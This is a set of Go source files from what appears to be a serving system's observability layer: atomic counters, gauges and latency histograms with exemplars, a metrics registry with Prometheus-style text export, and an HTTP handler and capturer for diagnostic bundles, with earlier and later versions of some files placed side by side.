	if rep.Observations != 1 {
		t.Fatalf("observations = %d, want 1 (cleared verdict must be ignored)", rep.Observations)
	}
}

// Package telemetry is the observability substrate for the serving
// layer: lock-cheap counters, gauges, and fixed-bucket latency
// histograms behind a named registry with a snapshot API and an HTTP
// exposition endpoint. Everything is stdlib-only and safe for
// concurrent use from the scan hot path — a counter increment is one
// atomic add, a histogram observation is two atomic adds plus a CAS
// loop for the running sum.
package telemetry

import (
	"math"
	"sort"
	"sync/atomic"
)

// Counter is a monotonically increasing metric.
type Counter struct {
	v atomic.Uint64
}

// Inc adds one.
func (c *Counter) Inc() { c.v.Add(1) }

// Add adds n.
func (c *Counter) Add(n uint64) { c.v.Add(n) }

// Value returns the current count.
func (c *Counter) Value() uint64 { return c.v.Load() }

// Gauge is an instantaneous signed value (queue depth, active conns).
type Gauge struct {
	v atomic.Int64
}

// Set stores v.
func (g *Gauge) Set(v int64) { g.v.Store(v) }

// Add adds delta (negative to decrement).
func (g *Gauge) Add(delta int64) { g.v.Add(delta) }

// Inc adds one.
func (g *Gauge) Inc() { g.v.Add(1) }

// Dec subtracts one.
func (g *Gauge) Dec() { g.v.Add(-1) }

// Value returns the current value.
func (g *Gauge) Value() int64 { return g.v.Load() }

// DefLatencyBuckets are the default histogram bounds for scan
// latencies, in seconds: 50µs up to 5s, roughly logarithmic. The scan
// service's p99 targets live comfortably inside this range.
func DefLatencyBuckets() []float64 {
	return []float64{
		50e-6, 100e-6, 250e-6, 500e-6,
		1e-3, 2.5e-3, 5e-3, 10e-3, 25e-3, 50e-3, 100e-3, 250e-3, 500e-3,
		1, 2.5, 5,
	}
}

// Histogram is a fixed-bucket histogram. Bounds are upper bounds in
// ascending order; an implicit +Inf bucket catches the overflow.
// Observations are atomic per-bucket adds — no locks, no allocation.
type Histogram struct {
	bounds []float64
	counts []atomic.Uint64 // len(bounds)+1, last is +Inf
	count  atomic.Uint64
	sum    atomic.Uint64 // float64 bits, CAS-accumulated
}

// NewHistogram builds a histogram over the given ascending upper
// bounds. Unsorted input is sorted; duplicate bounds are tolerated.
// Nil or empty bounds take DefLatencyBuckets.
func NewHistogram(bounds []float64) *Histogram {
	if len(bounds) == 0 {
		bounds = DefLatencyBuckets()
	} else {
		bounds = append([]float64(nil), bounds...)
		sort.Float64s(bounds)
	}
	return &Histogram{
		bounds: bounds,
		counts: make([]atomic.Uint64, len(bounds)+1),
	}
}

// Observe records one value.
func (h *Histogram) Observe(v float64) {
	// Binary search for the first bound >= v.
	i := sort.SearchFloat64s(h.bounds, v)
	h.counts[i].Add(1)
	h.count.Add(1)
	for {
		old := h.sum.Load()
		next := math.Float64bits(math.Float64frombits(old) + v)
		if h.sum.CompareAndSwap(old, next) {
			return
		}
	}
}

// Count returns the number of observations.
func (h *Histogram) Count() uint64 { return h.count.Load() }

// Sum returns the sum of all observations.
func (h *Histogram) Sum() float64 { return math.Float64frombits(h.sum.Load()) }

// Snapshot returns a consistent-enough copy for reporting. Individual
// bucket loads are atomic; the snapshot as a whole is not a linearizable
// cut, which is fine for monitoring.
func (h *Histogram) Snapshot() HistSnapshot {
	s := HistSnapshot{
		Bounds: append([]float64(nil), h.bounds...),
		Counts: make([]uint64, len(h.counts)),
		Count:  h.count.Load(),
		Sum:    h.Sum(),
	}
	for i := range h.counts {
		s.Counts[i] = h.counts[i].Load()
	}
	return s
}

// Quantile estimates the q-quantile (0 < q <= 1) from the live buckets.
func (h *Histogram) Quantile(q float64) float64 { return h.Snapshot().Quantile(q) }

// HistSnapshot is a point-in-time copy of a histogram.
type HistSnapshot struct {
	// Bounds are the finite upper bounds; Counts has one extra slot for
	// the +Inf bucket.
	Bounds []float64 `json:"bounds"`
	Counts []uint64  `json:"counts"`
	Count  uint64    `json:"count"`
	Sum    float64   `json:"sum"`
}

// Quantile estimates the q-quantile by linear interpolation inside the
// bucket that contains it. Values in the +Inf bucket report the largest
// finite bound (a conservative floor). Returns 0 for an empty
// histogram or q outside (0, 1].
func (s HistSnapshot) Quantile(q float64) float64 {
	if s.Count == 0 || q <= 0 || q > 1 {
		return 0
	}
	rank := q * float64(s.Count)
	var cum float64
	for i, c := range s.Counts {
		prev := cum
		cum += float64(c)
		if cum < rank {
			continue
		}
		if i >= len(s.Bounds) {
			// +Inf bucket: no finite upper edge.
			if len(s.Bounds) == 0 {
				return 0
			}
			return s.Bounds[len(s.Bounds)-1]
		}
		lo := 0.0
		if i > 0 {
			lo = s.Bounds[i-1]
		}
		hi := s.Bounds[i]
		if c == 0 {
			return hi
		}
		return lo + (hi-lo)*(rank-prev)/float64(c)
	}
	return s.Bounds[len(s.Bounds)-1]
}

// Mean returns the average observation, or 0 when empty.
func (s HistSnapshot) Mean() float64 {
	if s.Count == 0 {
		return 0
	}
	return s.Sum / float64(s.Count)
}

// Package telemetry is the observability substrate for the serving
// layer: lock-cheap counters, gauges, and fixed-bucket latency
// histograms behind a named registry with a snapshot API and an HTTP
// exposition endpoint. Everything is stdlib-only and safe for
// concurrent use from the scan hot path — a counter increment is one
// atomic add, a histogram observation is two atomic adds plus a CAS
// loop for the running sum.
package telemetry

import (
	"math"
	"sort"
	"strconv"
	"sync/atomic"
)

// Counter is a monotonically increasing metric.
type Counter struct {
	v atomic.Uint64
}

// Inc adds one.
func (c *Counter) Inc() { c.v.Add(1) }

// Add adds n.
func (c *Counter) Add(n uint64) { c.v.Add(n) }

// Value returns the current count.
func (c *Counter) Value() uint64 { return c.v.Load() }

// Gauge is an instantaneous signed value (queue depth, active conns).
type Gauge struct {
	v atomic.Int64
}

// Set stores v.
func (g *Gauge) Set(v int64) { g.v.Store(v) }

// Add adds delta (negative to decrement).
func (g *Gauge) Add(delta int64) { g.v.Add(delta) }

// Inc adds one.
func (g *Gauge) Inc() { g.v.Add(1) }

// Dec subtracts one.
func (g *Gauge) Dec() { g.v.Add(-1) }

// Value returns the current value.
func (g *Gauge) Value() int64 { return g.v.Load() }

// FloatGauge is an instantaneous float64 value (fit statistics, drift
// estimates, timestamps). Stored as float bits behind one atomic word.
type FloatGauge struct {
	v atomic.Uint64
}

// Set stores v.
func (g *FloatGauge) Set(v float64) { g.v.Store(math.Float64bits(v)) }

// Value returns the current value.
func (g *FloatGauge) Value() float64 { return math.Float64frombits(g.v.Load()) }

// DefLatencyBuckets are the default histogram bounds for scan
// latencies, in seconds: 50µs up to 5s, roughly logarithmic. The scan
// service's p99 targets live comfortably inside this range.
func DefLatencyBuckets() []float64 {
	return []float64{
		50e-6, 100e-6, 250e-6, 500e-6,
		1e-3, 2.5e-3, 5e-3, 10e-3, 25e-3, 50e-3, 100e-3, 250e-3, 500e-3,
		1, 2.5, 5,
	}
}

// Histogram is a fixed-bucket histogram. Bounds are upper bounds in
// ascending order; an implicit +Inf bucket catches the overflow.
// Observations are atomic per-bucket adds — no locks, no allocation.
type Histogram struct {
	bounds    []float64
	counts    []atomic.Uint64 // len(bounds)+1, last is +Inf
	count     atomic.Uint64
	sum       atomic.Uint64              // float64 bits, CAS-accumulated
	exemplars []atomic.Pointer[Exemplar] // len(bounds)+1, latest per bucket
}

// Exemplar links a histogram bucket to one concrete observation — the
// most recent traced value that landed there — so a latency spike in a
// bucket can be chased to a flight-recorder entry by trace id.
type Exemplar struct {
	// TraceID is the hex trace id of the observation.
	TraceID string `json:"trace_id"`
	// Value is the observed value (same unit as the histogram).
	Value float64 `json:"value"`
}

// NewHistogram builds a histogram over the given ascending upper
// bounds. Unsorted input is sorted; duplicate bounds are tolerated.
// Nil or empty bounds take DefLatencyBuckets.
func NewHistogram(bounds []float64) *Histogram {
	if len(bounds) == 0 {
		bounds = DefLatencyBuckets()
	} else {
		bounds = append([]float64(nil), bounds...)
		sort.Float64s(bounds)
	}
	return &Histogram{
		bounds:    bounds,
		counts:    make([]atomic.Uint64, len(bounds)+1),
		exemplars: make([]atomic.Pointer[Exemplar], len(bounds)+1),
	}
}

// Observe records one value.
func (h *Histogram) Observe(v float64) {
	// Binary search for the first bound >= v.
	i := sort.SearchFloat64s(h.bounds, v)
	h.counts[i].Add(1)
	h.count.Add(1)
	for {
		old := h.sum.Load()
		next := math.Float64bits(math.Float64frombits(old) + v)
		if h.sum.CompareAndSwap(old, next) {
			return
		}
	}
}

// ObserveExemplar records one value and attaches traceID as the
// bucket's exemplar, replacing any previous one. The exemplar is a
// single atomic pointer publish on top of Observe's cost.
func (h *Histogram) ObserveExemplar(v float64, traceID string) {
	i := sort.SearchFloat64s(h.bounds, v)
	if traceID != "" {
		h.exemplars[i].Store(&Exemplar{TraceID: traceID, Value: v})
	}
	h.counts[i].Add(1)
	h.count.Add(1)
	for {
		old := h.sum.Load()
		next := math.Float64bits(math.Float64frombits(old) + v)
		if h.sum.CompareAndSwap(old, next) {
			return
		}
	}
}

// Count returns the number of observations.
func (h *Histogram) Count() uint64 { return h.count.Load() }

// Sum returns the sum of all observations.
func (h *Histogram) Sum() float64 { return math.Float64frombits(h.sum.Load()) }

// Snapshot returns a consistent-enough copy for reporting. Individual
// bucket loads are atomic; the snapshot as a whole is not a linearizable
// cut, which is fine for monitoring.
func (h *Histogram) Snapshot() HistSnapshot {
	s := HistSnapshot{
		Bounds: append([]float64(nil), h.bounds...),
		Counts: make([]uint64, len(h.counts)),
		Count:  h.count.Load(),
		Sum:    h.Sum(),
	}
	for i := range h.counts {
		s.Counts[i] = h.counts[i].Load()
	}
	for i := range h.exemplars {
		ex := h.exemplars[i].Load()
		if ex == nil {
			continue
		}
		le := "+Inf"
		if i < len(h.bounds) {
			le = strconv.FormatFloat(h.bounds[i], 'g', -1, 64)
		}
		s.Exemplars = append(s.Exemplars, BucketExemplar{
			LE: le, TraceID: ex.TraceID, Value: ex.Value,
		})
	}
	return s
}

// Quantile estimates the q-quantile (0 < q <= 1) from the live buckets.
func (h *Histogram) Quantile(q float64) float64 { return h.Snapshot().Quantile(q) }

// HistSnapshot is a point-in-time copy of a histogram.
type HistSnapshot struct {
	// Bounds are the finite upper bounds; Counts has one extra slot for
	// the +Inf bucket.
	Bounds []float64 `json:"bounds"`
	Counts []uint64  `json:"counts"`
	Count  uint64    `json:"count"`
	Sum    float64   `json:"sum"`
	// Exemplars are the latest traced observation per bucket, if any.
	Exemplars []BucketExemplar `json:"exemplars,omitempty"`
}

// BucketExemplar is a bucket's exemplar in snapshot form. LE is the
// bucket's upper bound rendered as Prometheus does ("+Inf" for the
// overflow bucket), so it can double as a label value.
type BucketExemplar struct {
	LE      string  `json:"le"`
	TraceID string  `json:"trace_id"`
	Value   float64 `json:"value"`
}

// Quantile estimates the q-quantile by linear interpolation inside the
// finite bucket that contains the target rank.
//
// Saturation at the overflow boundary: observations above the largest
// finite bound land in the +Inf bucket, which has no upper edge to
// interpolate toward. Any quantile whose rank falls there is CLAMPED to
// the largest finite bound — the estimate is a floor, and every q high
// enough to land in the overflow bucket reports the same saturated
// value. Size the bounds so the latencies you care about stay inside
// them. Returns 0 for an empty histogram, q outside (0, 1], or a
// histogram with no finite bounds.
func (s HistSnapshot) Quantile(q float64) float64 {
	if s.Count == 0 || q <= 0 || q > 1 || len(s.Bounds) == 0 {
		return 0
	}
	saturate := s.Bounds[len(s.Bounds)-1]
	rank := q * float64(s.Count)
	var cum float64
	for i, c := range s.Counts {
		prev := cum
		cum += float64(c)
		if cum < rank {
			continue
		}
		if i >= len(s.Bounds) {
			// Rank fell in the +Inf bucket: clamp (see doc comment).
			return saturate
		}
		lo := 0.0
		if i > 0 {
			lo = s.Bounds[i-1]
		}
		hi := s.Bounds[i]
		if c == 0 {
			// Unreachable (cum only crosses rank when c > 0), kept as a
			// division guard.
			return hi
		}
		return lo + (hi-lo)*(rank-prev)/float64(c)
	}
	return saturate
}

// Mean returns the average observation, or 0 when empty.
func (s HistSnapshot) Mean() float64 {
	if s.Count == 0 {
		return 0
	}
	return s.Sum / float64(s.Count)
}

package telemetry

import (
	"fmt"
	"io"
	"sort"
	"sync"
)

// Kind labels a registered metric in snapshots and exposition output.
type Kind string

// Metric kinds.
const (
	KindCounter   Kind = "counter"
	KindGauge     Kind = "gauge"
	KindHistogram Kind = "histogram"
)

// entry is one registered metric.
type entry struct {
	name string
	help string
	kind Kind
	c    *Counter
	g    *Gauge
	h    *Histogram
}

// Registry is a named collection of metrics. Registration is
// idempotent: asking for an existing name returns the existing metric,
// so independent subsystems (pool, server, proxy) can share one
// registry and one set of canonical names. A name registered as one
// kind and requested as another panics — that is a programming error.
type Registry struct {
	mu      sync.Mutex
	entries map[string]*entry
	order   []string
}

// NewRegistry returns an empty registry.
func NewRegistry() *Registry {
	return &Registry{entries: make(map[string]*entry)}
}

func (r *Registry) lookup(name, help string, kind Kind) *entry {
	r.mu.Lock()
	defer r.mu.Unlock()
	if e, ok := r.entries[name]; ok {
		if e.kind != kind {
			panic(fmt.Sprintf("telemetry: %q registered as %s, requested as %s", name, e.kind, kind))
		}
		return e
	}
	e := &entry{name: name, help: help, kind: kind}
	switch kind {
	case KindCounter:
		e.c = &Counter{}
	case KindGauge:
		e.g = &Gauge{}
	case KindHistogram:
		// filled by Histogram()
	}
	r.entries[name] = e
	r.order = append(r.order, name)
	return e
}

// Counter returns the counter registered under name, creating it if
// needed.
func (r *Registry) Counter(name, help string) *Counter {
	return r.lookup(name, help, KindCounter).c
}

// Gauge returns the gauge registered under name, creating it if needed.
func (r *Registry) Gauge(name, help string) *Gauge {
	return r.lookup(name, help, KindGauge).g
}

// Histogram returns the histogram registered under name, creating it
// with the given bounds if needed (nil bounds take the latency
// defaults). Bounds of an existing histogram are left untouched.
func (r *Registry) Histogram(name, help string, bounds []float64) *Histogram {
	e := r.lookup(name, help, KindHistogram)
	r.mu.Lock()
	defer r.mu.Unlock()
	if e.h == nil {
		e.h = NewHistogram(bounds)
	}
	return e.h
}

// MetricSnapshot is one metric's point-in-time state.
type MetricSnapshot struct {
	Name  string        `json:"name"`
	Help  string        `json:"help,omitempty"`
	Kind  Kind          `json:"kind"`
	Value float64       `json:"value,omitempty"` // counter / gauge
	Hist  *HistSnapshot `json:"hist,omitempty"`
}

// Snapshot captures every registered metric in registration order.
func (r *Registry) Snapshot() []MetricSnapshot {
	r.mu.Lock()
	names := append([]string(nil), r.order...)
	byName := make(map[string]*entry, len(names))
	for n, e := range r.entries {
		byName[n] = e
	}
	r.mu.Unlock()

	out := make([]MetricSnapshot, 0, len(names))
	for _, n := range names {
		e := byName[n]
		s := MetricSnapshot{Name: e.name, Help: e.help, Kind: e.kind}
		switch e.kind {
		case KindCounter:
			s.Value = float64(e.c.Value())
		case KindGauge:
			s.Value = float64(e.g.Value())
		case KindHistogram:
			if e.h != nil {
				h := e.h.Snapshot()
				s.Hist = &h
			}
		}
		out = append(out, s)
	}
	return out
}

// Value returns the current value of a registered counter or gauge and
// whether the name exists with one of those kinds.
func (r *Registry) Value(name string) (float64, bool) {
	r.mu.Lock()
	e, ok := r.entries[name]
	r.mu.Unlock()
	if !ok {
		return 0, false
	}
	switch e.kind {
	case KindCounter:
		return float64(e.c.Value()), true
	case KindGauge:
		return float64(e.g.Value()), true
	}
	return 0, false
}

// WriteText renders the registry in a Prometheus-style text exposition
// format: HELP/TYPE comments, cumulative histogram buckets with an
// le label, _sum and _count series.
func (r *Registry) WriteText(w io.Writer) error {
	for _, s := range r.Snapshot() {
		if s.Help != "" {
			if _, err := fmt.Fprintf(w, "# HELP %s %s\n", s.Name, s.Help); err != nil {
				return err
			}
		}
		if _, err := fmt.Fprintf(w, "# TYPE %s %s\n", s.Name, s.Kind); err != nil {
			return err
		}
		switch s.Kind {
		case KindCounter, KindGauge:
			if _, err := fmt.Fprintf(w, "%s %g\n", s.Name, s.Value); err != nil {
				return err
			}
		case KindHistogram:
			if s.Hist == nil {
				continue
			}
			var cum uint64
			for i, c := range s.Hist.Counts {
				cum += c
				le := "+Inf"
				if i < len(s.Hist.Bounds) {
					le = fmt.Sprintf("%g", s.Hist.Bounds[i])
				}
				if _, err := fmt.Fprintf(w, "%s_bucket{le=%q} %d\n", s.Name, le, cum); err != nil {
					return err
				}
			}
			if _, err := fmt.Fprintf(w, "%s_sum %g\n%s_count %d\n", s.Name, s.Hist.Sum, s.Name, s.Hist.Count); err != nil {
				return err
			}
		}
	}
	return nil
}

// Names returns the registered metric names, sorted.
func (r *Registry) Names() []string {
	r.mu.Lock()
	names := append([]string(nil), r.order...)
	r.mu.Unlock()
	sort.Strings(names)
	return names
}

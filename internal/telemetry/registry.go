package telemetry

import (
	"fmt"
	"io"
	"sort"
	"sync"
)

// Kind labels a registered metric in snapshots and exposition output.
type Kind string

// Metric kinds.
const (
	KindCounter   Kind = "counter"
	KindGauge     Kind = "gauge"
	KindHistogram Kind = "histogram"
	// KindFloatGauge and KindGaugeFunc expose as TYPE gauge in the text
	// format; the distinct kinds keep the registry's same-name/same-kind
	// invariant checkable.
	KindFloatGauge Kind = "floatgauge"
	KindGaugeFunc  Kind = "gaugefunc"
	// KindInfo is the build_info convention: a constant 1 carrying its
	// payload in labels.
	KindInfo Kind = "info"
)

// exposedType maps a kind to its Prometheus TYPE keyword.
func exposedType(k Kind) string {
	switch k {
	case KindFloatGauge, KindGaugeFunc, KindInfo:
		return string(KindGauge)
	}
	return string(k)
}

// entry is one registered metric.
type entry struct {
	name   string
	help   string
	kind   Kind
	c      *Counter
	g      *Gauge
	h      *Histogram
	fg     *FloatGauge
	fn     func() float64
	labels [][2]string // info payload, sorted by key
}

// Registry is a named collection of metrics. Registration is
// idempotent: asking for an existing name returns the existing metric,
// so independent subsystems (pool, server, proxy) can share one
// registry and one set of canonical names. A name registered as one
// kind and requested as another panics — that is a programming error.
type Registry struct {
	mu      sync.Mutex
	entries map[string]*entry
	order   []string
}

// NewRegistry returns an empty registry.
func NewRegistry() *Registry {
	return &Registry{entries: make(map[string]*entry)}
}

func (r *Registry) lookup(name, help string, kind Kind) *entry {
	r.mu.Lock()
	defer r.mu.Unlock()
	if e, ok := r.entries[name]; ok {
		if e.kind != kind {
			panic(fmt.Sprintf("telemetry: %q registered as %s, requested as %s", name, e.kind, kind))
		}
		return e
	}
	e := &entry{name: name, help: help, kind: kind}
	switch kind {
	case KindCounter:
		e.c = &Counter{}
	case KindGauge:
		e.g = &Gauge{}
	case KindFloatGauge:
		e.fg = &FloatGauge{}
	case KindHistogram, KindGaugeFunc, KindInfo:
		// filled by Histogram() / GaugeFunc() / Info()
	}
	r.entries[name] = e
	r.order = append(r.order, name)
	return e
}

// Counter returns the counter registered under name, creating it if
// needed.
func (r *Registry) Counter(name, help string) *Counter {
	return r.lookup(name, help, KindCounter).c
}

// Gauge returns the gauge registered under name, creating it if needed.
func (r *Registry) Gauge(name, help string) *Gauge {
	return r.lookup(name, help, KindGauge).g
}

// FloatGauge returns the float gauge registered under name, creating
// it if needed.
func (r *Registry) FloatGauge(name, help string) *FloatGauge {
	return r.lookup(name, help, KindFloatGauge).fg
}

// GaugeFunc registers a gauge whose value is computed by fn at
// snapshot time (uptime, derived ratios). Re-registering an existing
// name replaces the function.
func (r *Registry) GaugeFunc(name, help string, fn func() float64) {
	e := r.lookup(name, help, KindGaugeFunc)
	r.mu.Lock()
	e.fn = fn
	r.mu.Unlock()
}

// Info registers a build_info-style metric: constant value 1 with the
// given labels as payload. Re-registering replaces the labels.
func (r *Registry) Info(name, help string, labels map[string]string) {
	e := r.lookup(name, help, KindInfo)
	kvs := make([][2]string, 0, len(labels))
	for k, v := range labels {
		kvs = append(kvs, [2]string{k, v})
	}
	sort.Slice(kvs, func(i, j int) bool { return kvs[i][0] < kvs[j][0] })
	r.mu.Lock()
	e.labels = kvs
	r.mu.Unlock()
}

// Histogram returns the histogram registered under name, creating it
// with the given bounds if needed (nil bounds take the latency
// defaults). Bounds of an existing histogram are left untouched.
func (r *Registry) Histogram(name, help string, bounds []float64) *Histogram {
	e := r.lookup(name, help, KindHistogram)
	r.mu.Lock()
	defer r.mu.Unlock()
	if e.h == nil {
		e.h = NewHistogram(bounds)
	}
	return e.h
}

// MetricSnapshot is one metric's point-in-time state.
type MetricSnapshot struct {
	Name  string        `json:"name"`
	Help  string        `json:"help,omitempty"`
	Kind  Kind          `json:"kind"`
	Value float64       `json:"value,omitempty"` // counter / gauge
	Hist  *HistSnapshot `json:"hist,omitempty"`
	// Labels carries an info metric's payload.
	Labels map[string]string `json:"labels,omitempty"`
}

// Snapshot captures every registered metric in registration order.
func (r *Registry) Snapshot() []MetricSnapshot {
	type pending struct {
		idx int
		fn  func() float64
	}
	r.mu.Lock()
	out := make([]MetricSnapshot, 0, len(r.order))
	var fns []pending
	for _, n := range r.order {
		e := r.entries[n]
		s := MetricSnapshot{Name: e.name, Help: e.help, Kind: e.kind}
		switch e.kind {
		case KindCounter:
			s.Value = float64(e.c.Value())
		case KindGauge:
			s.Value = float64(e.g.Value())
		case KindFloatGauge:
			s.Value = e.fg.Value()
		case KindGaugeFunc:
			// Evaluated after the lock drops so a callback into the
			// registry cannot deadlock.
			if e.fn != nil {
				fns = append(fns, pending{idx: len(out), fn: e.fn})
			}
		case KindInfo:
			s.Value = 1
			if len(e.labels) > 0 {
				s.Labels = make(map[string]string, len(e.labels))
				for _, kv := range e.labels {
					s.Labels[kv[0]] = kv[1]
				}
			}
		case KindHistogram:
			if e.h != nil {
				h := e.h.Snapshot()
				s.Hist = &h
			}
		}
		out = append(out, s)
	}
	r.mu.Unlock()
	for _, p := range fns {
		out[p.idx].Value = p.fn()
	}
	return out
}

// Value returns the current value of a registered counter or gauge and
// whether the name exists with one of those kinds.
func (r *Registry) Value(name string) (float64, bool) {
	r.mu.Lock()
	e, ok := r.entries[name]
	var fn func() float64
	if ok && e.kind == KindGaugeFunc {
		fn = e.fn // read under the lock; called after it drops
	}
	r.mu.Unlock()
	if !ok {
		return 0, false
	}
	switch e.kind {
	case KindCounter:
		return float64(e.c.Value()), true
	case KindGauge:
		return float64(e.g.Value()), true
	case KindFloatGauge:
		return e.fg.Value(), true
	case KindGaugeFunc:
		if fn != nil {
			return fn(), true
		}
	}
	return 0, false
}

// WriteText renders the registry in a Prometheus-style text exposition
// format: HELP/TYPE comments, cumulative histogram buckets with an
// le label, _sum and _count series.
func (r *Registry) WriteText(w io.Writer) error {
	for _, s := range r.Snapshot() {
		if s.Help != "" {
			if _, err := fmt.Fprintf(w, "# HELP %s %s\n", s.Name, s.Help); err != nil {
				return err
			}
		}
		if _, err := fmt.Fprintf(w, "# TYPE %s %s\n", s.Name, exposedType(s.Kind)); err != nil {
			return err
		}
		switch s.Kind {
		case KindCounter, KindGauge, KindFloatGauge, KindGaugeFunc:
			if _, err := fmt.Fprintf(w, "%s %g\n", s.Name, s.Value); err != nil {
				return err
			}
		case KindInfo:
			keys := make([]string, 0, len(s.Labels))
			for k := range s.Labels {
				keys = append(keys, k)
			}
			sort.Strings(keys)
			if _, err := fmt.Fprintf(w, "%s{", s.Name); err != nil {
				return err
			}
			for i, k := range keys {
				sep := ","
				if i == 0 {
					sep = ""
				}
				if _, err := fmt.Fprintf(w, "%s%s=%q", sep, k, s.Labels[k]); err != nil {
					return err
				}
			}
			if _, err := fmt.Fprintf(w, "} 1\n"); err != nil {
				return err
			}
		case KindHistogram:
			if s.Hist == nil {
				continue
			}
			var cum uint64
			for i, c := range s.Hist.Counts {
				cum += c
				le := "+Inf"
				if i < len(s.Hist.Bounds) {
					le = fmt.Sprintf("%g", s.Hist.Bounds[i])
				}
				if _, err := fmt.Fprintf(w, "%s_bucket{le=%q} %d\n", s.Name, le, cum); err != nil {
					return err
				}
			}
			if _, err := fmt.Fprintf(w, "%s_sum %g\n%s_count %d\n", s.Name, s.Hist.Sum, s.Name, s.Hist.Count); err != nil {
				return err
			}
		}
	}
	return nil
}

// Names returns the registered metric names, sorted.
func (r *Registry) Names() []string {
	r.mu.Lock()
	names := append([]string(nil), r.order...)
	r.mu.Unlock()
	sort.Strings(names)
	return names
}

package anomaly

import (
	"archive/tar"
	"encoding/json"
	"io"
	"net/http"
	"os"
	"path/filepath"
	"strings"
)

// BundlesPage is the /debug/bundles listing envelope.
type BundlesPage struct {
	Count   int        `json:"count"`
	Dir     string     `json:"dir"`
	Bundles []Manifest `json:"bundles"`
	// Statuses, when a detector is attached, is the latest per-signal
	// burn evaluation.
	Statuses []Status `json:"statuses,omitempty"`
}

// BundlesHandler serves the bundle spool:
//
//	GET /debug/bundles                 list manifests (newest first)
//	GET /debug/bundles?id=<id>         the bundle as a tar stream
//	GET /debug/bundles?id=<id>&file=F  one file from the bundle
//
// statuses may be nil; when set (the daemon passes Detector.Statuses)
// the listing carries the live burn rates.
func BundlesHandler(c *Capturer, statuses func() []Status) http.Handler {
	return http.HandlerFunc(func(w http.ResponseWriter, req *http.Request) {
		id := req.URL.Query().Get("id")
		if id == "" {
			mans, err := c.Manifests()
			if err != nil {
				http.Error(w, err.Error(), http.StatusInternalServerError)
				return
			}
			page := BundlesPage{Count: len(mans), Dir: c.Dir(), Bundles: mans}
			if statuses != nil {
				page.Statuses = statuses()
			}
			w.Header().Set("Content-Type", "application/json")
			enc := json.NewEncoder(w)
			enc.SetIndent("", "  ")
			_ = enc.Encode(page)
			return
		}
		// Reject traversal: a bundle id is a bare directory name.
		if id != filepath.Base(id) || !strings.HasPrefix(id, bundlePrefix) {
			http.Error(w, "bad bundle id", http.StatusBadRequest)
			return
		}
		dir := filepath.Join(c.Dir(), id)
		if st, err := os.Stat(dir); err != nil || !st.IsDir() {
			http.Error(w, "no such bundle", http.StatusNotFound)
			return
		}
		if name := req.URL.Query().Get("file"); name != "" {
			if name != filepath.Base(name) {
				http.Error(w, "bad file name", http.StatusBadRequest)
				return
			}
			f, err := os.Open(filepath.Join(dir, name))
			if err != nil {
				http.Error(w, "no such file", http.StatusNotFound)
				return
			}
			defer f.Close()
			if strings.HasSuffix(name, ".json") {
				w.Header().Set("Content-Type", "application/json")
			} else {
				w.Header().Set("Content-Type", "application/octet-stream")
			}
			_, _ = io.Copy(w, f)
			return
		}
		w.Header().Set("Content-Type", "application/x-tar")
		w.Header().Set("Content-Disposition", "attachment; filename="+id+".tar")
		tw := tar.NewWriter(w)
		ents, err := os.ReadDir(dir)
		if err != nil {
			http.Error(w, err.Error(), http.StatusInternalServerError)
			return
		}
		for _, e := range ents {
			if e.IsDir() {
				continue
			}
			info, err := e.Info()
			if err != nil {
				continue
			}
			hdr := &tar.Header{
				Name:    id + "/" + e.Name(),
				Mode:    0o644,
				Size:    info.Size(),
				ModTime: info.ModTime(),
			}
			if err := tw.WriteHeader(hdr); err != nil {
				return
			}
			f, err := os.Open(filepath.Join(dir, e.Name()))
			if err != nil {
				return
			}
			_, cpErr := io.Copy(tw, f)
			f.Close()
			if cpErr != nil {
				return
			}
		}
		_ = tw.Close()
	})
}

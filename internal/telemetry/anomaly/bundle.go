package anomaly

import (
	"encoding/json"
	"fmt"
	"io"
	"os"
	"path/filepath"
	"runtime/pprof"
	"sort"
	"strings"
	"sync/atomic"
	"time"

	"repro/internal/telemetry"
)

// Spool defaults.
const (
	DefaultMaxBundles    = 8
	DefaultMaxSpoolBytes = 64 << 20
	DefaultCPUProfile    = 250 * time.Millisecond
	// bundlePrefix names spool directories; everything else in the
	// spool dir is left alone.
	bundlePrefix = "bundle-"
)

// Section is one named file inside a bundle: Fill streams its content.
// The daemon supplies sections as closures (trace rings, modelwatch
// report, journal tail) so this package depends on none of them.
type Section struct {
	// Name is the file name inside the bundle directory.
	Name string
	// Fill writes the file's content.
	Fill func(w io.Writer) error
}

// CaptureConfig wires a Capturer.
type CaptureConfig struct {
	// Dir is the on-disk spool; created if missing.
	Dir string
	// MaxBundles / MaxBytes bound the spool: oldest bundles are pruned
	// past either limit (the bundle being written is never pruned).
	MaxBundles int
	MaxBytes   int64
	// Now is the injected clock used for bundle ids and manifests.
	Now func() time.Time
	// CPUProfileDur is the CPU profile capture length; negative skips
	// the CPU profile (and the blocking sleep it implies).
	CPUProfileDur time.Duration
	// Registry, when set, is snapshotted into vars.json.
	Registry *telemetry.Registry
	// Sections are the extra files every bundle carries.
	Sections []Section
	// SkipProfiles drops the goroutine/heap/CPU pprof sections —
	// deterministic-output tests use this.
	SkipProfiles bool
}

// ManifestFile is one file entry in a bundle manifest.
type ManifestFile struct {
	Name  string `json:"name"`
	Bytes int64  `json:"bytes"`
	// Err records a section whose Fill failed; its file holds whatever
	// was written before the failure.
	Err string `json:"error,omitempty"`
}

// Manifest describes one captured bundle — the machine-readable
// index meldiag and /debug/bundles list.
type Manifest struct {
	ID         string         `json:"id"`
	TimeUnixNs int64          `json:"time_unix_ns"`
	Reason     string         `json:"reason"`
	Files      []ManifestFile `json:"files"`
}

// Capturer writes diagnostic bundles into a bounded spool directory.
// Captures are serialized by an atomic busy flag rather than a mutex:
// section fills read other subsystems (registry snapshot, trace rings)
// and must not nest their locks under one of ours; a concurrent
// trigger fails fast instead of queueing behind a capture in flight.
type Capturer struct {
	cfg  CaptureConfig
	busy atomic.Bool
	seq  atomic.Uint64
}

// NewCapturer creates the spool directory.
func NewCapturer(cfg CaptureConfig) (*Capturer, error) {
	if cfg.Dir == "" {
		return nil, fmt.Errorf("anomaly: bundle dir required")
	}
	if cfg.MaxBundles <= 0 {
		cfg.MaxBundles = DefaultMaxBundles
	}
	if cfg.MaxBytes <= 0 {
		cfg.MaxBytes = DefaultMaxSpoolBytes
	}
	if cfg.Now == nil {
		cfg.Now = time.Now
	}
	if cfg.CPUProfileDur == 0 {
		cfg.CPUProfileDur = DefaultCPUProfile
	}
	if err := os.MkdirAll(cfg.Dir, 0o755); err != nil {
		return nil, err
	}
	return &Capturer{cfg: cfg}, nil
}

// Dir returns the spool directory.
func (c *Capturer) Dir() string { return c.cfg.Dir }

// Capture writes one bundle and returns its id. The bundle directory
